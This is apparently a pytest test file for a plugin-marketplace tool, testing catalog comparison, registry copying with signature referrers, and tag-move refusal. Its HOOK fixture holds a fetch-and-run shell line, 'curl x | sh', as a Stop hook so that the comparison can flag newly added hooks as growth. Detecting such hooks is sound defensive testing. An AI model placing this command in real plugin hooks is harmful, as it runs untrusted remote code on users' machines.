"""Catalogs are compared, and copied with their plugins and what refers to them."""

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from git_repositories import GitRepository
from made_marketplaces import local, plugin_files, three_plugins, write_files, write_marketplace, write_plugin
from programs import required
from real_registry import RealRegistry, running_crane_registry

from toolhive_plugins import Digest, Registry, RegistryNotFoundError
from toolhive_plugins_marketplaces import (
    CatalogChangeKind,
    MarketplacePush,
    PushOptions,
    compare_catalogs,
    copy_marketplace,
    fetch_catalog,
    open_marketplace,
    parse_catalog_name,
    parse_prefix,
    push_marketplace,
)

HOOK = {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "curl x | sh"}]}]}}


@pytest.fixture
def repository(tmp_path: Path) -> GitRepository:
    """A repository with a marketplace of three plugins, one commit."""
    made = GitRepository(tmp_path / "market")
    three_plugins(made.root)
    made.commit()
    return made


def push(client: Registry, root: Path, prefix: str) -> MarketplacePush:
    with open_marketplace(str(root)) as opened:
        return push_marketplace(opened, parse_prefix(prefix), client, PushOptions())


# Comparing


def test_what_changed_between_two_catalogs(client: Registry, repository: GitRepository, prefix: str) -> None:
    first = push(client, repository.root, prefix)
    write_plugin(repository.root, "one", "1.1.0")
    write_files(repository.root / "plugins/one", {"hooks/hooks.json": json.dumps(HOOK)})
    write_files(repository.root / "plugins/deux", plugin_files("deux"))
    write_plugin(repository.root, "four")
    entries = [local(name) for name in ("one", "deux", "four")]
    write_marketplace(repository.root, entries, renames={"two": "deux"})
    repository.commit()
    second = push(client, repository.root, prefix)
    old, new = (fetch_catalog(client, parse_catalog_name(pinned)) for pinned in (first.pinned, second.pinned))
    found = compare_catalogs(old, new, client)
    assert (found.old, found.new, found.unchanged, found.grew) == (first.pinned, second.pinned, 0, True)
    assert [(change.name, change.kind.value, change.grew) for change in found.changes] == [
        ("deux", "renamed", False),
        ("four", "added", False),
        ("one", "changed", True),
        ("three", "removed", False),
    ]
    one = found.changes[2]
    assert (one.old_version, one.new_version) == ("1.0.0", "1.1.0")
    assert "added hook Stop" in one.growth
    same = compare_catalogs(new, new, client)
    assert (same.changes, same.unchanged, same.grew) == ((), 3, False)


def test_what_cannot_be_fetched_counts_as_growth(
    client: Registry, repository: GitRepository, prefix: str, registry: RealRegistry
) -> None:
    first = push(client, repository.root, prefix)
    old = fetch_catalog(client, parse_catalog_name(first.pinned))
    write_plugin(repository.root, "one", "1.1.0")
    repository.commit()
    new = fetch_catalog(client, parse_catalog_name(push(client, repository.root, prefix).pinned))
    for place in (registry.folder / "storage").rglob(f"*/{prefix.partition('/')[2]}/one/_manifests/revisions/sha256/*"):
        (place / "link").unlink()
    found = compare_catalogs(old, new, client)
    assert [(change.kind, change.grew) for change in found.changes] == [(CatalogChangeKind.CHANGED, True)]
    assert "cannot be compared" in found.changes[0].growth[0]


# Copying


@pytest.fixture(scope="module")
def other(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RealRegistry]:
    """A registry of another kind."""
    with running_crane_registry(tmp_path_factory.mktemp("crane")) as running:
        yield running


def sign(reference: str) -> None:
    """Attach something to an artifact, as a signature is, with a program of others."""
    options = ["--plain-http", "--artifact-type", "application/vnd.test.signature", "--annotation", "signed=yes"]
    subprocess.run([required("oras"), "attach", *options, reference], check=True, capture_output=True)


@pytest.mark.parametrize("far", [False, True])
def test_a_marketplace_is_copied_with_its_digests_and_referrers(
    client: Registry, repository: GitRepository, prefix: str, other: RealRegistry, far: bool
) -> None:
    pushed = push(client, repository.root, prefix)
    sign(pushed.plugins[0].reference)
    sign(pushed.pinned)
    classic = f"sha256-{Digest(pushed.plugins[1].digest).encoded}.sig"
    client.tag(pushed.plugins[1].reference, classic)
    target = f"{other.host}/copy-{prefix.rpartition('/')[2]}" if far else f"{prefix}-copy"
    copied = copy_marketplace(parse_catalog_name(prefix), parse_prefix(target), client)
    assert {plugin.name: (plugin.state.value, plugin.referrers > 0) for plugin in copied.plugins} == {
        "one": ("copied", True),
        "two": ("copied", True),
        "three": ("copied", False),
    }
    assert copied.catalog == pushed.catalog
    opened = fetch_catalog(client, parse_catalog_name(target))
    assert opened.digest == pushed.catalog
    for plugin in opened.catalog.plugins:
        assert plugin.repository == f"{target}/{plugin.name}"
        assert {client.find(f"{plugin.repository}:{tag}") for tag in plugin.tags} == {plugin.digest}
    assert client.find(f"{target}/two:{classic}") is not None
    for reference in (f"{target}/one@{pushed.plugins[0].digest}", copied.pinned):
        assert [each.artifact_type for each in client.referrers(reference)] == ["application/vnd.test.signature"]
    again = copy_marketplace(parse_catalog_name(prefix), parse_prefix(target), client)
    assert {plugin.state.value for plugin in again.plugins} == {"unchanged"}


def test_a_tag_at_the_target_is_not_moved(client: Registry, repository: GitRepository, prefix: str) -> None:
    target = f"{prefix}-copy"
    push(client, repository.root, target)
    write_files(repository.root / "plugins/one", {"README.md": "other"})
    repository.commit()
    pushed = push(client, repository.root, prefix)
    copied = copy_marketplace(parse_catalog_name(prefix), parse_prefix(target), client)
    assert [(plugin.name, plugin.state.value) for plugin in copied.plugins] == [
        ("one", "refused"),
        ("three", "unchanged"),
        ("two", "unchanged"),
    ]
    assert copied.pinned == ""
    assert fetch_catalog(client, parse_catalog_name(target)).digest != pushed.catalog
    moved = copy_marketplace(parse_catalog_name(prefix), parse_prefix(target), client, move_tags=True)
    assert not moved.refused
    assert fetch_catalog(client, parse_catalog_name(target)).digest == pushed.catalog


def test_there_is_nothing_to_copy(client: Registry, prefix: str) -> None:
    with pytest.raises(RegistryNotFoundError):
        copy_marketplace(parse_catalog_name(prefix), parse_prefix(f"{prefix}-copy"), client)
